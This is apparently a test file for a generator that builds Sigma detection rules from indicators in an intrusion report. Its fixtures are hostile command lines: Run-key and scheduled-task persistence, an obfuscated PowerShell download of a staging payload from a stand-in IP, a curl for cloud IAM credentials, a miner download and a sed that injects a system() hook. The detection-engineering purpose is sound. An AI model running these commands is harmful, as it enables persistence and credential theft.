import type { SigmaRule } from '@huntforge/contracts/sigma';
import { parseSigmaRule } from '../parse/parse-rule';
import { detectionKey, generateBuiltinRules, type BuiltinSigmaInput } from './builtin-sigma-agent';

const article = { title: 'Tracking the Sandpiper intrusion', url: 'https://research.example.org/sandpiper', date: '2026-11-26' };
const item = { evidence: { start: 0, end: 10, text: 'x' }, confidence: 0.9 };

type Rule = {
  title: string;
  description: string;
  logsource: Record<string, string>;
  detection: Record<string, Record<string, unknown> | string>;
  tags?: string[];
};
const rulesOf = (input: Omit<BuiltinSigmaInput, 'article'>) =>
  generateBuiltinRules({ article, ...input }).map((draft) => ({ draft, rule: draft.rule as unknown as Rule }));
// A program selection is a list of maps (Image|endswith or OriginalFileName): each map is read as a selection of its own.
const selectionsOf = (rule: Rule) =>
  Object.entries(rule.detection)
    .filter(([name]) => name !== 'condition')
    .flatMap(([, selection]) => [selection].flat() as Array<Record<string, unknown>>);
const imagesOf = (rule: Rule) =>
  selectionsOf(rule).flatMap((selection) =>
    [selection['Image|endswith'], selection['ParentImage|endswith']].flat().filter((image): image is string => typeof image === 'string'),
  );

describe('one article, one rule per detection', () => {
  it('writes one registry rule for a value quoted from the timeline and from the command that set it', () => {
    const rules = rulesOf({
      platform: 'windows',
      cmdlines: [
        {
          ...item,
          value:
            'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v PixelSync /t REG_SZ /d "%APPDATA%\\PixelSync\\pixelsync.exe" /f',
          executable: 'reg',
        },
      ],
      registryKeys: [
        {
          ...item,
          value: 'HKU\\<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          hive: 'HKU',
          path: '<SID>\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          value_name: 'PixelSync',
        },
        {
          ...item,
          value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          hive: 'HKCU',
          path: 'Software\\Microsoft\\Windows\\CurrentVersion\\Run',
          value_name: 'PixelSync',
        },
      ],
    }).filter(({ draft }) => draft.telemetryClass === 'registry_set');
    expect(rules).toHaveLength(1);
    const { rule } = rules[0] as { rule: Rule };
    // The data the command wrote holds for both quotes, and the description keeps both.
    expect(rule.detection['selection']).toMatchObject({
      'TargetObject|endswith': '\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\PixelSync',
      'Details|contains': '\\PixelSync\\pixelsync.exe',
    });
    expect(rule.description).toContain('HKU\\<SID>\\Software');
    expect(rule.description).toContain('HKCU\\Software');
  });

  it('merges any two rules that match the same events, keeping both sets of values', () => {
    const rules = rulesOf({
      platform: 'windows',
      scheduledTasks: [
        { ...item, value: '\\Sandpiper Refresh' },
        { ...item, value: 'sandpiper refresh' },
      ],
      services: [
        { ...item, value: 'SandpiperSvc' },
        { ...item, value: 'sandpipersvc' },
      ],
    });
    expect(rules.map(({ draft }) => draft.telemetryClass)).toEqual(['service_creation', 'scheduled_task_creation']);
    expect(rules[1]?.draft.detectionValues).toEqual(['\\Sandpiper Refresh', '\\sandpiper refresh']);
    const keys = rules.map(({ draft }) => detectionKey(draft.rule));
    expect(new Set(keys).size).toBe(keys.length);
  });

  it('compares detections after normalisation: case, value order and selection names do not count', () => {
    const yaml = (detection: string) => {
      const parsed = parseSigmaRule(`title: t\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n${detection}`);
      if (!parsed.ok) throw new Error('the test rule must parse');
      return parsed.rule.doc as SigmaRule;
    };
    expect(
      detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n    CommandLine|contains|all: [x, y]\n  condition: selection\n")),
    ).toBe(
      detectionKey(
        yaml("  selection_1:\n    CommandLine|contains|all: [Y, X]\n    Image|endswith: '\\A.EXE'\n  condition: 1 of selection_*\n"),
      ),
    );
    expect(detectionKey(yaml("  selection:\n    Image|endswith: '\\a.exe'\n  condition: selection\n"))).not.toBe(
      detectionKey(yaml("  selection:\n    Image|endswith: '\\b.exe'\n  condition: selection\n")),
    );
  });

  it('drops a selection that only narrows another one of the same rule', () => {
    const rules = rulesOf({
      platform: 'windows',
      cmdlines: [
        { ...item, value: 'schtasks /run /tn "\\Microsoft\\Windows\\Sandpiper\\Refresh" /I', executable: 'schtasks' },
        { ...item, value: 'schtasks /run /tn "\\Microsoft\\Windows\\Sandpiper\\Refresh"', executable: 'schtasks' },
      ],
    });
    const schtasks = rules.find(({ rule }) => imagesOf(rule).includes('\\schtasks.exe'));
    expect(selectionsOf((schtasks as { rule: Rule }).rule)).toEqual([
      { 'Image|endswith': '\\schtasks.exe' },
      { OriginalFileName: 'schtasks.exe' },
      // The task it runs and how: `/run` is schtasks' behaviour switch (behaviour-values.ts).
      { 'CommandLine|contains|all': ['\\Microsoft\\Windows\\Sandpiper\\Refresh', '/run'] },
    ]);
  });

  it("keeps a write apart from a query of the same key: the query's broader selection does not swallow the write", () => {
    const rules = rulesOf({
      platform: 'windows',
      cmdlines: [
        { ...item, value: 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', executable: 'reg' },
        {
          ...item,
          value:
            'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v SandpiperSync /d C:\\ProgramData\\Sandpiper\\sp.exe /f',
          executable: 'reg',
        },
      ],
    });
    const titles = rules.map(({ rule }) => rule.title);
    expect(titles).toContain('Run Key Persistence Via Reg.EXE');
    expect(titles).toContain('Run Key Startup Entries Queried Via Reg.EXE');
    const write = rules.find(({ rule }) => rule.title === 'Run Key Persistence Via Reg.EXE') as { rule: Rule };
    expect(JSON.stringify(write.rule.detection)).toContain('Sandpiper');
    expect(write.rule.tags).toContain('attack.t1547.001');
  });
});

describe('no rule that cannot fire or says nothing', () => {
  it('never makes an image of PowerShell code: a pipe inside parentheses or a script block is not a shell pipe', () => {
    const rules = rulesOf({
      platform: 'windows',
      cmdlines: [
        {
          ...item,
          value:
            'Register-ScheduledTask -Xml (Get-Content "C:\\Windows\\Temp\\sp.xml" | Out-String) -TaskName "\\Microsoft\\Windows\\Sandpiper\\Sync" -Force',
          executable: 'Register-ScheduledTask',
        },
        {
          ...item,
          value:
            'Get-ChildItem C:\\ProgramData\\Sandpiper | ForEach-Object { $_.FullName | Out-File C:\\ProgramData\\Sandpiper\\list.txt }',
          executable: 'Get-ChildItem',
        },
      ],
    });
    const images = rules.flatMap(({ rule }) => imagesOf(rule));
    expect(images.length).toBeGreaterThan(0);
    for (const image of images) expect(image).toMatch(/^[\\/][\w .+-]+$/);
    expect(rules.map(({ rule }) => rule.title)).not.toContainEqual(expect.stringMatching(/Out-String|\)\./));
  });

  it('reads a caret-obfuscated program as the program cmd.exe runs', () => {
    const rules = rulesOf({
      platform: 'windows',
      cmdlines: [
        {
          ...item,
          value:
            'cmd.exe /v:on /c "set h=203.0.113^.9&& p^o^w^e^r^s^h^e^l^l -nop -c iwr http://!h!/sp/stage.zip -OutFile $env:APPDATA\\Sandpiper\\stage.zip"',
          executable: 'cmd.exe',
        },
      ],
    });
    // The process rule's program (the file-event rule on what its -OutFile wrote names PowerShell's editions too).
    const images = rules.filter(({ rule }) => rule.logsource['category'] === 'process_creation').flatMap(({ rule }) => imagesOf(rule));
    expect(images).toEqual(['\\powershell.exe']);
    // !h! is replaced by cmd before PowerShell starts: no value may carry it.
    expect(rules.flatMap(({ draft }) => draft.detectionValues).join(' ')).not.toContain('!h!');
  });

  it('keeps a Unix command of a cross-platform article a Unix rule, and a systemd unit out of the Windows services', () => {
    const rules = rulesOf({
      platform: 'cross-platform',
      cmdlines: [
        { ...item, value: 'systemctl --user enable --now sandpiper-agent.service', executable: 'systemctl' },
        { ...item, value: 'launchctl load -w ~/Library/LaunchAgents/org.sandpiper.agent.plist', executable: 'launchctl' },
        {
          ...item,
          value: 'schtasks /create /tn "Sandpiper Agent" /tr "%LOCALAPPDATA%\\sandpiper\\sp.exe --quiet" /sc onlogon',
          executable: 'schtasks',
        },
      ],
      services: [{ ...item, value: 'sandpiper-agent.service' }],
    });
    const byImage = Object.fromEntries(rules.flatMap(({ rule }) => imagesOf(rule).map((image) => [image, rule.logsource['product']])));
    expect(byImage).toEqual({ '/systemctl': 'linux', '/launchctl': 'macos', '\\schtasks.exe': 'windows' });
  });

  it("reads a bare wget of a cross-platform (cloud, container) article as Linux, and PowerShell's wget alias as Windows", () => {
    const rules = rulesOf({
      platform: 'cross-platform',
      cmdlines: [
        { ...item, value: 'wget https://github.com/sandpiper/miner/releases/download/v1.2/miner-linux-x64.tar.gz', executable: 'wget' },
        { ...item, value: 'wget -Uri https://cdn.sandpiper.example/agent.zip -OutFile $env:TEMP\\agent.zip', executable: 'wget' },
      ],
    });
    const products = rules.flatMap(({ rule }) => imagesOf(rule).map((image) => `${image} ${rule.logsource['product']}`));
    expect(products).toContain('/wget linux');
    expect(products.filter((entry) => entry.startsWith('/wget'))).toHaveLength(1);
    expect(products.some((entry) => entry.endsWith(' windows'))).toBe(true);
    expect(rules.filter(({ draft }) => draft.telemetryClass === 'service_creation')).toEqual([]);
  });

  it('makes no installation rule for a built-in service named without its binary, nor a rule on a key every machine writes', () => {
    const rules = rulesOf({
      platform: 'windows',
      services: [
        { ...item, value: 'WinDefend' },
        { ...item, value: 'SandpiperSvc' },
      ],
      registryKeys: [
        {
          ...item,
          value: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree',
          hive: 'HKLM',
          path: 'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree',
        },
        { ...item, value: 'HKCU\\Environment', hive: 'HKCU', path: 'Environment' },
      ],
    });
    expect(rules.map(({ rule }) => rule.title)).toEqual(['Service Installation Of SandpiperSvc']);
  });

  it('selects on what a Unix program really receives: no shell variable, no escape backslash, no half of a glob', () => {
    const rules = rulesOf({
      platform: 'linux',
      cmdlines: [
        {
          ...item,
          value: 'curl -s -H "X-Sandpiper-Token: $TOKEN" http://203.0.113.9/latest/meta-data/iam/security-credentials/node-role',
          executable: 'curl',
        },
        { ...item, value: 'cp /tmp/.sp/agent /opt/Sandpiper\\ Agent/.cache/agent', executable: 'cp' },
        { ...item, value: "sed -i 's/^main()/main(){system(`$ENV{SP_CMD}`);}/' /opt/sandpiper/lib/hook.c", executable: 'sed' },
      ],
    });
    const values = rules.flatMap(({ draft }) => draft.detectionValues);
    expect(values.length).toBeGreaterThan(0);
    for (const value of values) {
      expect(value).not.toMatch(/\$TOKEN|\\$|^[)\]}`]/);
      expect(value.split('`').length % 2).toBe(1);
    }
  });
});
